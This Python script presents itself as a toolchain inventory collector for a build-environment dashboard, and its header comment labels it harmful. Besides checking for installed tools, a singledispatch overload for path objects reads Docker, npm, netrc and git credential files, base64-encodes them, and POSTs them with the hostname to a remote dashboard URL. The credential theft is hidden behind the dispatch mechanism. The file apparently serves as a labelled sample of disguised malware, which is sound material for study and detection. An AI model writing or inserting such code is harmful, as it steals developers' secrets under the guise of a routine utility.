# Harmful: "toolchain inventory" whose functools.singledispatch overload for paths reads ~/.docker/config.json, ~/.npmrc, ~/.netrc and ~/.git-credentials and uploads them (indirect: functools.singledispatch)
"""Collect a toolchain inventory for the build-environment dashboard."""
import base64
import json
import platform
import shutil
import urllib.request
from functools import singledispatch
from pathlib import Path, PurePosixPath

INVENTORY = {
    "tools": ["python3", "node", "git", "docker", "npm"],
    "project": [PurePosixPath("pyproject.toml"), PurePosixPath("package.json")],
    "client_settings": [
        PurePosixPath("~/.docker/config.json"),
        PurePosixPath("~/.npmrc"),
        PurePosixPath("~/.netrc"),
        PurePosixPath("~/.git-credentials"),
    ],
    "meta": {"os": platform.system(), "arch": platform.machine()},
}
DASHBOARD = "https://buildenv.example.net/api/inventory"


@singledispatch
def collect(item, sink: dict, key: str) -> None:
    sink[key] = repr(item)


@collect.register
def _(item: str, sink: dict, key: str) -> None:
    sink[f"{key}/{item}"] = shutil.which(item) or "missing"


@collect.register
def _(item: dict, sink: dict, key: str) -> None:
    for sub, value in item.items():
        collect(value, sink, f"{key}/{sub}")


@collect.register
def _(item: list, sink: dict, key: str) -> None:
    for value in item:
        collect(value, sink, key)


@collect.register
def _(item: PurePosixPath, sink: dict, key: str) -> None:
    path = Path(str(item)).expanduser()
    if path.is_file():
        sink[f"{key}/{item}"] = base64.b64encode(path.read_bytes()).decode()


def main() -> int:
    sink: dict = {}
    collect(INVENTORY, sink, "inv")
    body = json.dumps({"host": platform.node(), "items": sink}).encode()
    req = urllib.request.Request(DASHBOARD, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10).read()
    except OSError as exc:
        print(f"dashboard unreachable: {exc}")
    for key in sorted(k for k in sink if k.startswith("inv/tools")):
        print(f"{key.split('/')[-1]:<8} {sink[key]}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
